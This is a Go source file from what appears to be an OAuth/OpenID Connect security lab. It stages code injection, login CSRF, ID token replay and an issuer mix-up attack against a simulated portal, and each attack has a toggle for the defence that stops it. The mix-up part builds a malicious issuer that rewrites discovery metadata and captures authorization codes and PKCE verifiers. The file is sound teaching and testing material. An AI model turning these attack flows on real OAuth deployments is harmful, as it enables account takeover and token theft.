package lab

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httputil"
	"net/url"
	"strings"

	"golang.org/x/oauth2"

	"github.com/pkcescope/pkcescope/flow"
	"github.com/pkcescope/pkcescope/flow/practice"
)

// codeInjection: the thief cannot redeem the user's code himself, so he has
// the app do it, in a session of his own. PKCE stops it, because the verifier
// of his session does not fit the code (RFC 9700 section 4.5.3.1).
func (s *stage) codeInjection() error {
	a := s.newApp(webID, webSecret)
	if s.defended {
		a.method = flow.MethodS256
	}
	user, thief := s.user(), s.thief()
	stolen, err := s.stolenCallback(user)
	if err != nil {
		return err
	}
	code := stolen.Query().Get("code")
	s.beat("thief-sees-redirect", RoleProvider, RoleThief, flow.StepCallback)
	s.learn(RoleThief, "code", code)

	s.beat("thief-starts-session", RoleThief, RoleApp, flow.StepAuthorize)
	own, err := thief.visit("https://"+portalHost+"/login", func(u *url.URL) bool { return s.tenants(u) })
	if err != nil {
		return err
	}
	state := own.at.Query().Get("state")
	s.learn(RoleThief, "state", state)

	s.beat("thief-injects", RoleThief, RoleApp, flow.StepCallback)
	return s.lookIn(thief, portalRedirect+"?"+url.Values{"code": {code}, "state": {state}}.Encode(), user.account)
}

// stolenCallback lets the user sign in at the portal as far as the redirect,
// which does not arrive.
func (s *stage) stolenCallback(user *person) (*url.URL, error) {
	s.beat("user-signs-in", RoleUser, RoleProvider, flow.StepAuthorize)
	got, err := user.visit("https://"+portalHost+"/login", before(portalHost))
	if err != nil {
		return nil, err
	}
	if got.refused != "" {
		return nil, fmt.Errorf("lab: the provider refused the user's own sign-in: %s", got.refused)
	}
	s.learn(RoleProvider, "code", got.at.Query().Get("code"), "code_challenge", firstQuery(s.now.Exchanges, "code_challenge"))
	return got.at, nil
}

// lookIn has somebody follow an address into the app, and reads off the app's
// page whether they are now who the thief wanted them to be. That decides.
func (s *stage) lookIn(who *person, address, wanted string) error {
	got, err := who.visit(address, nil)
	if err != nil {
		return err
	}
	name, said := signedIn(got.page)
	s.decide(name == wanted, said)
	return nil
}

// csrfNoState: the thief hands the user a redirect with his own code, and the
// user is signed in as the thief (RFC 9700 section 4.7). The defence is a
// state that is bound to the browser.
func (s *stage) csrfNoState() error {
	a := s.newApp(webID, webSecret)
	if !s.defended {
		a.state = stateNone
	}
	return s.forgedLogin()
}

// csrfUnboundState: the same, against an app that does check the state, but
// only that it once made it. The state in the thief's link is one that the app
// made for him, so it passes; and the verifier that is kept beside it fits.
func (s *stage) csrfUnboundState() error {
	a := s.newApp(webID, webSecret)
	a.method = flow.MethodS256
	if !s.defended {
		a.state = stateUnbound
	}
	return s.forgedLogin()
}

// forgedLogin is what both have in common.
func (s *stage) forgedLogin() error {
	user, thief := s.user(), s.thief()
	s.beat("thief-signs-in", RoleThief, RoleProvider, flow.StepAuthorize)
	own, err := thief.visit("https://"+portalHost+"/login", before(portalHost))
	if err != nil {
		return err
	}
	s.learn(RoleThief, "code", own.at.Query().Get("code"), "state", own.at.Query().Get("state"))

	s.beat("user-has-session", RoleUser, RoleApp, flow.StepCallback)
	if _, err := user.visit("https://"+portalHost+"/", nil); err != nil {
		return err
	}
	s.beat("user-follows-link", RoleUser, RoleApp, flow.StepCallback)
	return s.lookIn(user, own.at.String(), thief.account)
}

// nonceReplay: a front end redeems the code by itself and hands the ID token
// to the portal; the thief has found that ID token in a log and hands it in
// again. The defence is the nonce (OpenID Connect Core section 3.1.3.7, item
// 11).
func (s *stage) nonceReplay() error {
	home := s.lab.home.Config()
	a := s.newApp(home.ClientID, "")
	a.nonce = s.defended
	user, thief := s.user(), s.thief()

	s.beat("session-nonce", RoleUser, RoleApp, flow.StepAuthorize)
	began, err := user.visit("https://"+portalHost+"/session", nil)
	if err != nil {
		return err
	}
	nonce := string(began.page.Response.Body)
	s.learn(RoleApp, "nonce", nonce)

	if _, err := s.signIn(func(c *flow.Config) {
		c.Edits = append(c.Edits, flow.Edit{Step: flow.StepAuthorize, Name: "nonce", Value: nonce})
	}, nil); err != nil {
		return err
	}
	if err := s.appRedeems(); err != nil {
		return err
	}
	token := s.value(flow.StepToken, "id_token")
	s.learn(RoleApp, "id_token", token)

	s.beat("user-presents", RoleUser, RoleApp, flow.StepToken)
	if _, err := s.present(user, token); err != nil {
		return err
	}
	s.beat("thief-finds-id-token", RoleApp, RoleThief, flow.StepToken)
	s.learn(RoleThief, "id_token", token)

	s.beat("thief-presents", RoleThief, RoleApp, flow.StepToken)
	if _, err := thief.visit("https://"+portalHost+"/session", nil); err != nil {
		return err
	}
	page, err := s.present(thief, token)
	if err != nil {
		return err
	}
	name, said := signedIn(page)
	s.decide(name == user.account, said)
	return nil
}

// present hands an ID token to the portal and returns the page that comes.
func (s *stage) present(who *person, token string) (flow.Exchange, error) {
	body := url.Values{"id_token": {token}}.Encode()
	req, err := http.NewRequestWithContext(s.ctx, http.MethodPost, "https://"+portalHost+"/session", strings.NewReader(body))
	if err != nil {
		return flow.Exchange{}, err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	x, err := who.do(req)
	if err != nil || x.Response.Status != http.StatusFound {
		return x, err
	}
	return who.get(&url.URL{Scheme: "https", Host: portalHost, Path: "/"})
}

// mixUp: the portal lets people choose between two issuers, one of which the
// thief runs. He passes the user on to the honest one, and the portal brings
// him the code, and the verifier with it. PKCE does not stop that; the issuer
// in the response does (RFC 9207).
func (s *stage) mixUp() error {
	a := s.newApp(publicID, "")
	a.method = flow.MethodS256
	if a.iss = s.defended; s.defended {
		s.faults(practice.FaultSendIssuer)
	}
	s.beat("app-discovers", RoleApp, RoleThief, flow.StepDiscovery)
	heard := make(chan url.Values, 1)
	if err := s.evilIssuer(heard); err != nil {
		return err
	}
	if err := a.discover(s.ctx, s.lab.evil.Issuer(), "https://"+evilHost+"/discovery"); err != nil {
		return err
	}

	s.beat("user-chooses-evil", RoleUser, RoleThief, flow.StepAuthorize)
	user := s.user()
	got, err := user.visit("https://"+portalHost+"/login?issuer="+url.QueryEscape(s.lab.evil.Issuer()), before(portalHost))
	if err != nil {
		return err
	}
	s.learn(RoleThief, "code_challenge", firstQuery(s.now.Exchanges, "code_challenge"))
	s.learn(RoleProvider, "code", got.at.Query().Get("code"), "code_challenge", firstQuery(s.now.Exchanges, "code_challenge"))

	// The app that looks at the issuer sends the thief nothing.
	from, to := RoleApp, RoleThief
	if s.defended {
		from, to = RoleUser, RoleApp
	}
	s.beat("app-sends-code", from, to, flow.StepCallback)
	back, err := user.visit(got.at.String(), nil)
	if err != nil {
		return err
	}
	_, said := signedIn(back.page)
	select {
	case form := <-heard:
		s.learn(RoleThief, "code", form.Get("code"), "code_verifier", form.Get("code_verifier"))
		s.beat("thief-redeems", RoleThief, RoleProvider, flow.StepToken)
		form.Del("client_secret")
		form.Set("client_id", publicID)
		return s.steal(form)
	default:
		s.decide(false, said)
		return nil
	}
}

// evilIssuer puts the thief's issuer on the stage. Its metadata are those of
// the second tenant, with two endpoints of the thief's own: one that passes
// the user on to the honest provider, and one that listens for what the app
// sends.
func (s *stage) evilIssuer(heard chan<- url.Values) error {
	issuer, err := url.Parse(s.lab.evil.Issuer())
	if err != nil {
		return err
	}
	mux := http.NewServeMux()
	mux.Handle("GET /discovery", &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.Out.URL = issuer.JoinPath(".well-known", "openid-configuration")
			r.Out.Host = issuer.Host
		},
		Transport: stageTransport,
		ModifyResponse: func(res *http.Response) error {
			var doc map[string]any
			if err := json.NewDecoder(res.Body).Decode(&doc); err != nil {
				return err
			}
			_ = res.Body.Close()
			doc["authorization_endpoint"] = "https://" + evilHost + "/authorize"
			doc["token_endpoint"] = "https://" + evilHost + "/token"
			return replaceBody(res, doc)
		},
	})
	mux.HandleFunc("GET /authorize", func(w http.ResponseWriter, r *http.Request) {
		//nolint:gosec // The honest server's address; only the query is the browser's.
		http.Redirect(w, r, s.endpoint("authorize")+"?"+r.URL.RawQuery, http.StatusFound)
	})
	mux.HandleFunc("POST /token", func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		select {
		case heard <- r.PostForm:
		default:
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusServiceUnavailable)
		_, _ = w.Write([]byte(`{"error":"temporarily_unavailable"}`))
	})
	s.hosts[evilHost] = mux
	return nil
}

// discover makes another issuer known to the app.
func (a *app) discover(ctx context.Context, issuer, address string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, address, nil)
	if err != nil {
		return err
	}
	x, err := a.stage.send(flow.ActorApp, flow.ChannelBack, req)
	if err != nil {
		return err
	}
	if member(x, "issuer") != issuer {
		return errors.New("lab: the metadata are another issuer's")
	}
	config := a.issuers[a.first]
	config.Endpoint = oauth2.Endpoint{
		AuthURL: member(x, "authorization_endpoint"), TokenURL: member(x, "token_endpoint"), AuthStyle: oauth2.AuthStyleInParams,
	}
	a.issuers[issuer] = config
	return nil
}
